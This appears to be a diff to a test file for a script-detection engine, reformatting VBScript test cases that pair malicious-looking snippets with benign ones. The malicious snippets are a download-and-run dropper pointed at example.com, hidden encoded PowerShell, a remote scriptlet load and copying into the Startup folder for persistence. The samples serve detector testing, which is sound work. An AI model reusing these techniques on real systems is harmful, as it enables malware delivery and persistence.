@@ -1,9 +1,12 @@
+# ruff: noqa: E501 -- a line of a script is one line here, too
 from tests.engine.script_texts import encoded, pair
 
 SHELL = 'Set s = CreateObject("WScript.Sh¦ell")\r\n'
 HTTP = 'Set h = CreateObject("MSXML2.XML¦HTTP")\r\nh.Open "GET", "https://example.com/a", False\r\nh.Send\r\n'
 SAVE = 'Set f = CreateObject("ADODB.Str¦eam")\r\nf.Open\r\nf.Write h.responseBody\r\nf.SaveTo¦File p, 2\r\n'
-LIST = 'For Each f In CreateObject("Scripting.FileSystemObject").GetFolder(".").Files\r\nWScript.Echo f.Name\r\nNext\r\n'
+LIST = (
+    'For Each f In CreateObject("Scripting.FileSystemObject").GetFolder(".").Files\r\nWScript.Echo f.Name\r\nNext\r\n'
+)
 
 CASES = {
     "wsh.shell_object": pair("a.vbs", SHELL + 'WScript.Echo s.ExpandEnvironmentStrings("%USERNAME%")\r\n', LIST),
@@ -11,13 +14,17 @@ CASES = {
     "wsh.stream_save": pair("a.vbs", SAVE, 'Set f = CreateObject("ADODB.Stream")\r\nf.LoadFromFile "a.csv"\r\n'),
     "wsh.run": pair("a.vbs", SHELL + 's.Run "notepad.exe"\r\n', SHELL + "WScript.Echo s.CurrentDirectory\r\n"),
     "wsh.dropper": pair("a.vbs", SHELL + HTTP + SAVE + "s.Run p\r\n", HTTP + SAVE + 'WScript.Echo "saved"\r\n'),
-    "wsh.runs_powershell": pair("a.vbs", SHELL + 's.Run "power¦shell -File job.ps1"\r\n', SHELL + 's.Run "notepad.exe"\r\n'),
+    "wsh.runs_powershell": pair(
+        "a.vbs", SHELL + 's.Run "power¦shell -File job.ps1"\r\n', SHELL + 's.Run "notepad.exe"\r\n'
+    ),
     "wsh.hidden_powershell": pair(
         "a.vbs",
         SHELL + f's.Run "power¦shell -w hid¦den -e {encoded("Get-Date | Out-File C:/now.txt")}", 0\r\n',
         SHELL + 's.Run "powershell -File job.ps1"\r\n',
     ),
-    "wsh.remote_scriptlet": pair("a.vbs", 'GetObject("script¦:https://example.com/a.sct")\r\n', 'Set w = GetObject("winmgmts:")\r\n'),
+    "wsh.remote_scriptlet": pair(
+        "a.vbs", 'GetObject("script¦:https://example.com/a.sct")\r\n', 'Set w = GetObject("winmgmts:")\r\n'
+    ),
     "wsh.startup_copy": pair(
         "a.vbs",
         'Set f = CreateObject("Scripting.FileSystemObject")\r\nd = s.SpecialFolders("Startup")\r\nf.Copy¦File WScript.ScriptFull¦Name, d & "\\a.vbs"\r\n',
